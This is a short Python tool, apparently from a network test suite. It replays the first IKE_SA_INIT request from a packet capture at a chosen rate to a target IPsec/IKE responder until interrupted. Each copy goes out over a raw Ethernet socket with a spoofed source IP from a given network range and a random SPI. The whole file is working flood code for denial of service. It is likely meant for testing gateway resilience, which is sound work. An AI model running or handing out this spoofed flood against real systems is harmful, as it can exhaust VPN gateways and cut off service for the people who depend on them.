#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""ike_flood.py CAPTURE TARGET MAC RATE NETWORK: what anybody on the link can send.

The first IKE_SA_INIT request of CAPTURE, RATE times a second to TARGET (with the link address MAC)
until SIGINT, each from another address of NETWORK and with another SPI. Prints how many were sent.
"""
import ipaddress
import random
import signal
import socket
import struct
import sys
import threading
import time

IKE_SA_INIT = 34
TICK = 0.01

capture, target, mac, rate, network = sys.argv[1:]
network = ipaddress.ip_network(network)
stopped = threading.Event()
signal.signal(signal.SIGINT, lambda *_: stopped.set())


def first_request(path):
    """The IKE message, without UDP header; Ethernet and IPv4 without options around it."""
    with open(path, "rb") as file:
        data = file.read()
    position = 24
    while position < len(data):
        length = struct.unpack_from("<I", data, position + 8)[0]
        frame = data[position + 16:position + 16 + length]
        position += 16 + length
        message = frame[42:]
        if (len(message) >= 28 and frame[23] == socket.IPPROTO_UDP
                and message[8:16] == bytes(8) and message[18] == IKE_SA_INIT):
            return message
    sys.exit(f"{path}: no IKE_SA_INIT in it")


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def frame(message, number):
    source = network[1 + number % (network.num_addresses - 2)]
    message = struct.pack("!Q", random.getrandbits(64) | 1) + message[8:]
    # without a checksum, as UDP over IPv4 may be
    datagram = struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0x4000, 64,
                         socket.IPPROTO_UDP, 0, source.packed, socket.inet_aton(target))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return bytes.fromhex(mac.replace(":", "")) + own_mac + b"\x08\x00" + header + datagram


sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind(("eth0", 0))
own_mac = sock.getsockname()[4]
message = first_request(capture)
sent = 0
begun = time.monotonic()
# not stopped.wait(): see udp_knock.py
while not stopped.is_set():
    time.sleep(TICK)
    due = int((time.monotonic() - begun) * int(rate))
    # what a stall of this machine held back is not made up for at once
    for number in range(max(sent, due - int(rate)), due):
        sock.send(frame(message, number))
    sent = due
print(sent)
